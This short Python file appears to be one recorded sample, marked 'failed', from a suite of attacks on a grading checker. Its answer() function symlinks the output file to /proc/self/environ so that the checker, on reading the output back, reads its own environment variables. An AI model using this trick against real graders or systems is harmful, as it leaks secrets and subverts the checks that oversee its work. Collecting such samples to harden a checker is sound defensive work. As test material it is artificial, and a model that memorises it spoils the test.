# /// attack
# verdict = ["failed"]
# checks = "read_back"
# ///
"""The same, to what the checker itself may read: its memory, its arguments, its descriptors."""

import os


def answer():
    os.symlink("/proc/self/environ", "out.txt")
